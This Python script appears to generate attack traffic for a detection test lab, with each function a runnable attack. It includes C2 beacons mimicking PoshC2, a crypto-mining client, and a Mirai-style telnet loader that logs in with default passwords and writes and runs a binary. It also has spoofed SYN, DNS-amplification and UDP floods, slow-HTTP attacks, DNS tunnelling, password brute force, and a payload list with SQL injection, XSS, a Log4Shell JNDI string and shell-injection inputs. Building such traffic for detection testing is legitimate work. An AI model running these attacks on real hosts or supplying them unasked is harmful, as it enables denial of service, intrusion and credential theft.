#!/usr/bin/env python3
"""Attacks as a tester writes them in twenty lines, and the master's ends that they need.  attacks.py NAME ARGUMENTS..."""
import base64
import json
import os
import random
import socket
import struct
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
from wire import checksum, connect, ip, paced, pause, quietly, secure, sender, tcp, until, word  # noqa: E402


def get(url, data=None, headers=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, headers or {}), timeout=5) as r:
            return r.read()
    except (urllib.error.URLError, OSError):
        return b""


# The master's ends

def orders(port):
    """A line for each message of a bot: now and then an order."""
    def talk(s):
        with s:
            while data := s.recv(4096):
                s.sendall(b"exec uname -a\n" if random.random() < 0.2 else b"none\n")
    with socket.create_server(("", int(port)), backlog=50) as listener:
        while True:
            threading.Thread(target=quietly, args=(talk, listener.accept()[0]), daemon=True).start()


def udp_orders(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", int(port)))
    while True:
        s.sendto(b"noop", s.recvfrom(2048)[1])


def pool(port):
    """A mining pool for Bitcoin's Stratum."""
    def talk(s):
        def work():
            while True:
                s.sendall(json.dumps({"id": None, "method": "mining.notify", "params": [os.urandom(4).hex(), os.urandom(32).hex(), os.urandom(40).hex(), os.urandom(60).hex(), [], "20000000", "1a0375fc", "5f5e1000", True]}).encode() + b"\n")
                time.sleep(6)
        threading.Thread(target=quietly, args=(work,), daemon=True).start()
        for line in s.makefile("rb"):
            m = json.loads(line)
            s.sendall(json.dumps({"id": m["id"], "result": [[["mining.notify", "ae68"]], "08000002", 4] if m["method"] == "mining.subscribe" else True, "error": None}).encode() + b"\n")
    with socket.create_server(("", int(port))) as listener:
        while True:
            threading.Thread(target=quietly, args=(talk, listener.accept()[0]), daemon=True).start()


# Masters

def post_tasks(target, every, jitter):
    for end in until(95):
        get(f"http://{target}/tasks", json.dumps({"id": "agent-7", "host": socket.gethostname(), "user": "root"}).encode(), {"Content-Type": "application/json"})
        if random.random() < 0.25:
            get(f"http://{target}/results", json.dumps({"id": "agent-7", "out": base64.b64encode(os.urandom(400)).decode()}).encode(), {"Content-Type": "application/json"})
        pause(every, jitter, end)


def posh(target, every, jitter):
    """PoshC2's default pages and cookie."""
    pages = ["images/static/content/", "news/", "webapp/static/", "images/prints/", "wordpress/site/", "steam/", "images/images/77/", "babel-polyfill/6.3.14/"]
    for end in until(95):
        get(f"http://{target}/{random.choice(pages)}{random.randrange(10**8)}/?{''.join(random.choices('abcdefghijklmnop', k=15))}", None, {"Cookie": "SessionID=" + base64.b64encode(os.urandom(48)).decode(), "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.122 Safari/537.36"})
        pause(every, jitter, end)


def tcp_again(target, port, every, jitter):
    for end in until(85):
        with connect(target, port) as s:
            s.sendall(b"HELLO " + socket.gethostname().encode() + b"\n")
            s.recv(1024)
        pause(every, jitter, end)


def tcp_kept(target, port, every, jitter):
    with connect(target, port) as s:
        for end in until(105):
            s.sendall(b"ping agent-7\n")
            s.recv(1024)
            pause(every, jitter, end)


def udp_kept(target, port, every, jitter):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    for end in until(95):
        s.sendto(b"agent-7 alive", (target, int(port)))
        quietly(s.recv, 2048)
        pause(every, jitter, end)


def icmp_tasks(target, every):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    for i, end in enumerate(until(75)):
        body = b"TASK?agent-7" if i % 4 else base64.b64encode(os.urandom(120))
        head = struct.pack("!BBHHH", 8, 0, 0, 7, i)
        s.sendto(struct.pack("!BBHHH", 8, 0, checksum(head + body), 7, i) + body, (target, 0))
        pause(every, 20, end)


# Malware

def stratum(target, port):
    with connect(target, port) as s:
        s.sendall(b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n{"id":2,"method":"mining.authorize","params":["1BoatSLRHtKNngkdXEeobR76b53LETtpyT.w1","x"]}\n')
        for i, end in enumerate(until(55)):
            quietly(s.recv, 8192)
            s.sendall(json.dumps({"id": 4 + i, "method": "mining.submit", "params": ["1BoatSLRHtKNngkdXEeobR76b53LETtpyT.w1", os.urandom(4).hex(), "00000000", "5f5e1000", os.urandom(4).hex()]}).encode() + b"\n")
            pause(7, 30, end)


def echo_loader(target):
    """Logs in by telnet and writes its loader with echo, as Hajime and Mirai's later kin do."""
    with connect(target, 23) as s:
        for line in [b"root", b"vizxv", b"enable", b"system", b"shell", b"sh", b"/bin/busybox ECCHI"] + [b"echo -ne '" + "".join(f"\\x{b:02x}" for b in (b"\x7fELF\x01\x01\x01" + os.urandom(40))).encode() + b"' >> .s" for _ in range(8)] + [b"/bin/busybox chmod 777 .s; ./.s"]:
            s.sendall(line + b"\r\n")
            quietly(s.recv, 2048)
            time.sleep(0.4)


# Floods

def raw_syn(target, port, count):
    s = sender()
    for _ in paced(count, 800):
        source = f"172.31.{random.randrange(8, 250)}.{random.randrange(1, 254)}"
        s.sendto(ip(source, target, 6, tcp(source, target, random.randrange(1024, 65000), int(port), 2)), (target, 0))


def requests_threads(target, threads, seconds):
    def one():
        for _ in until(seconds):
            get(f"http://{target}/news.html?{random.randrange(10**9)}", None, {"User-Agent": f"Mozilla/5.0 ({random.randrange(999)})"})
    jobs = [threading.Thread(target=one, daemon=True) for _ in range(int(threads))]
    for j in jobs:
        j.start()
    for j in jobs:
        j.join()


def used(server, victim, count):
    """Questions in a victim's name: the server floods it."""
    s = sender()
    name = b"\x04shop\x07example\0" + struct.pack("!HH", 255, 1)
    for _ in paced(count, 500):
        body = struct.pack("!HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0) + name
        s.sendto(ip(victim, server, 17, struct.pack("!HHHH", random.randrange(1024, 65000), 53, 8 + len(body), 0) + body), (server, 0))


def udp_large(target, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in paced(float(seconds) * 600, 600):
        quietly(s.sendto, os.urandom(1400), (target, random.randrange(1, 65535)))


# Slow attacks

def held(count, make, again, every, seconds):
    sockets = [s for s in (quietly(make) for _ in range(int(count))) if s]
    for end in until(seconds):
        for s in sockets:
            quietly(again, s)
        pause(every, 0, end)


def rudy(target, count, seconds):
    def make():
        s = connect(target, 80)
        s.sendall(f"POST /signin HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nuser=".encode())
        return s
    held(count, make, lambda s: s.send(b"A"), 8, seconds)


def read_small(target, count, seconds):
    def make():
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 256)
        s.settimeout(3)
        s.connect((target, 80))
        s.sendall(f"GET /static/catalogue.csv HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        return s
    held(count, make, lambda s: s.recv(16), 5, seconds)


def tls_heads(target, count, seconds):
    def make():
        s = secure(target, 443)
        s.sendall(f"GET / HTTP/1.1\r\nHost: {target}\r\n".encode())
        return s
    held(count, make, lambda s: s.sendall(b"X-a: b\r\n"), 8, seconds)


# Tunnels, passwords, the web

def names(server, count, every, letters, kinds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    for _ in range(int(count)):
        name = base64.b32encode(os.urandom(int(letters))).decode().lower()[:int(letters)] + ".t.leak.example"
        question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", int(random.choice(kinds.split(","))), 1)
        s.sendto(struct.pack("!HHHHHH", random.getrandbits(16), 0x100, 1, 0, 0, 0) + question, (server, 53))
        quietly(s.recv, 2048)
        time.sleep(float(every))


def basic_slow(target, count, every):
    for i in range(int(count)):
        get(f"http://{target}/login", None, {"Authorization": "Basic " + base64.b64encode(f"admin:{word(i)}".encode()).decode()})
        time.sleep(float(every))


def telnet_try(target, count):
    for i in range(int(count)):
        with connect(target, 23) as s:
            for line in ("root", word(i)):
                s.recv(200)
                s.sendall(line.encode() + b"\r\n")
            s.settimeout(4)
            quietly(s.recv, 200)
            time.sleep(0.5)


def paths_paced(target, every):
    for p in ("admin/ backup.zip .git/config .env wp-login.php phpmyadmin/ config.php.bak server-status db.sql test.php shell.php .svn/entries api/v1/users console/ manager/html "
              "cgi-bin/test.cgi old/ dump.sql.gz id_rsa .htpasswd adminer.php web.config info.php uploads/ private/ secret/ actuator/env").split():
        get(f"http://{target}/{p}", None, {"User-Agent": "python-requests/2.28.1"})
        time.sleep(float(every))


def payloads_posted(target, every):
    for p in ("' OR '1'='1", "admin'--", "1' UNION SELECT username,password FROM users--", "'; DROP TABLE users;--", "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}",
              "${jndi:ldap://172.31.7.77/a}", "; cat /etc/passwd", "$(id)", "1 AND SLEEP(5)", "\"><svg onload=alert(1)>"):
        get(f"http://{target}/signin", urllib.parse.urlencode({"user": p, "password": "x"}).encode())
        time.sleep(float(every))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
